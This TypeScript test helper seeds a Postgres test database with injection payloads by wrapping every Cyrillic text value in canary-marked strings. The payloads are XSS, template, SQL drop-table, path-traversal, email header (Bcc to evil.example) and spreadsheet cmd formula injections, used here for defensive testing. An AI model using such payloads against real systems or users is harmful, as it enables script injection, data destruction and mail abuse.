import { sql } from 'kysely'
import type { Database } from '../../src/store/connect.ts'

/** What runs if it comes out as mark-up, an attribute, script, a template, an address, a header of a letter or a formula: short enough for the shortest field. */
export const payloads: readonly string[] = [
  '<img src=x onerror=canary(1)>', '"><svg/onload=canary(1)>', '\' onfocus=\'canary(1)\' x=\'', '</script><script>canary(1)</script>', '</title></textarea><script>canary(1)</script>',
  '<a href="javascript:canary(1)">x</a>', '{{canary(1)}}${canary(1)}', '&lt;img src=x onerror=canary(1)&gt;', '<!--canary(1)', '\u202ecanary(1)\u200b', '../../canary(1)', "'; drop table canary(1); --",
  '\r\nBcc: canary(1)@evil.example\r\n\r\n', '\\";canary(1);//', '\u2028canary(1)//', '<iframe srcdoc="<script>canary(1)</script>">',
]
const formula = "=canary(1)+cmd|'!A1 "

/** A string inside JSON with a Cyrillic letter; keys of our own have none. */
const cyrillicString = String.raw`"((?:[^"\\]|\\.)*[А-Яа-я](?:[^"\\]|\\.)*)"(?!\s*:)`

/** Tables whose rows the database keeps from change: their words are written through verbs. */
const kept = new Set(['journal_fact', 'journal_chain', 'schema_migration'])

/**
 * Puts the payload around every word somebody wrote, wherever it is stored: every text value, list of texts and string inside
 * JSON that has a Cyrillic letter. New tables and columns are taken in by themselves. Returns how many columns were changed.
 */
export async function poison(db: Database): Promise<number> {
  const { rows } = await sql<{ table: string; column: string; type: string }>`
    select c.relname as table, a.attname as column, format_type(a.atttypid, a.atttypmod) as type from pg_attribute a join pg_class c on c.oid = a.attrelid
    where c.relkind = 'r' and c.relnamespace = 'public'::regnamespace and a.attnum > 0 and not a.attisdropped and a.attgenerated = ''
      and format_type(a.atttypid, a.atttypmod) in ('text', 'text[]', 'jsonb') order by 1, 2`.execute(db)
  let changed = 0
  for (const [n, { table, column, type }] of rows.filter((one) => !kept.has(one.table)).entries()) {
    const [name, place] = [sql.ref(column), sql.table(table)]
    // Which one a value gets follows from its words, so that all of them come everywhere.
    const chosen = sql`(${payloads}::text[])[1 + abs(hashtext(${name}::text)::bigint + ${n}::int) % ${payloads.length}::int]`
    const around = (said: typeof chosen) => sql`(${formula}::text || ${said} || ${chosen})`
    await sql`alter table ${place} disable trigger user`.execute(db)
    const done =
      type === 'text'
        ? await sql`update ${place} set ${name} = ${around(sql`${name}`)} where ${name} ~ '[А-Яа-я]'`.execute(db)
        : type === 'text[]'
          ? await sql`update ${place} set ${name} = array(select ${around(sql`said`)} from unnest(${name}) as said) where array_to_string(${name}, ' ') ~ '[А-Яа-я]'`.execute(db)
          : await sql`update ${place} set ${name} = regexp_replace(${name}::text, ${cyrillicString}, '"' || ${formula}::text || '\\1' || replace(trim(both '"' from to_json(${chosen})::text), '\\', '\\\\') || '"', 'g')::jsonb where ${name}::text ~ '[А-Яа-я]'`.execute(db)
    await sql`alter table ${place} enable trigger user`.execute(db)
    if ((done.numAffectedRows ?? 0n) > 0n) changed += 1
  }
  return changed
}
